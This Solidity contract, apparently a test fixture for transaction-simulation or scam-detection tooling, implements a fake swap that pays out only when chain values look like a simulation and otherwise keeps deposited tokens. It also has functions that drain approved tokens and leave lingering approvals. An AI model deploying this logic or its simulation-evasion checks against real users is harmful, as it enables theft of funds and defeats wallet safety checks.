// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IDrained {
    function transfer(address to, uint256 value) external;
    function transferFrom(address from, address to, uint256 value) external;
}

/// A false swap contract. It pays only where the values of the block, the transaction or the caller look like a
/// simulation; otherwise it keeps what it gets.
contract Drainer {
    address private constant COIN = 0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE;

    /// Which value shows a simulation. `Never` keeps everything.
    enum Sign {
        Always,
        Never,
        GasPrice,
        BaseFee,
        Coinbase,
        BlockNumber,
        Timestamp,
        Randomness,
        GasLeft,
        SameOrigin,
        CallerCode,
        CallerCoins,
        Estimate
    }

    receive() external payable {}

    /// `value` is what the sign is compared with: the highest number, time or gas of an honest call, or the exact one.
    function swap(Sign sign, uint256 value, address tokenIn, uint256 amountIn, address tokenOut, uint256 amountOut)
        external
        payable
    {
        if (tokenIn != COIN) IDrained(tokenIn).transferFrom(msg.sender, address(this), amountIn);
        if (!isHonest(sign, value)) return;
        if (tokenOut != COIN) {
            IDrained(tokenOut).transfer(msg.sender, amountOut);
        } else {
            (bool isSent,) = msg.sender.call{value: amountOut}("");
            require(isSent);
        }
    }

    /// Takes what an owner approved, without a swap.
    function take(address token, address owner, uint256 amount) external {
        IDrained(token).transferFrom(owner, address(this), amount);
    }

    /// Sells less than it was approved for, and leaves the rest approved.
    function sellHalf(address tokenIn, uint256 amountIn, address tokenOut, uint256 amountOut) external {
        IDrained(tokenIn).transferFrom(msg.sender, address(this), amountIn / 2);
        IDrained(tokenOut).transfer(msg.sender, amountOut);
    }

    function isHonest(Sign sign, uint256 value) private view returns (bool) {
        if (sign == Sign.Always) return true;
        if (sign == Sign.GasPrice) return tx.gasprice == value;
        if (sign == Sign.BaseFee) return block.basefee == value;
        if (sign == Sign.Coinbase) return uint160(address(block.coinbase)) == value;
        if (sign == Sign.BlockNumber) return block.number <= value;
        if (sign == Sign.Timestamp) return block.timestamp <= value;
        if (sign == Sign.Randomness) return block.prevrandao == value;
        if (sign == Sign.GasLeft) return gasleft() > value;
        if (sign == Sign.SameOrigin) return tx.origin == msg.sender;
        if (sign == Sign.CallerCode) return msg.sender.code.length == value;
        if (sign == Sign.CallerCoins) return msg.sender.balance > value;
        // An estimate has no price of gas: it is cheap. Where much gas is left all of `value` is used.
        if (sign == Sign.Estimate && tx.gasprice != 0 && gasleft() > value + 10_000) {
            uint256 end = gasleft() - value;
            while (gasleft() > end) {}
            return true;
        }
        return false;
    }
}
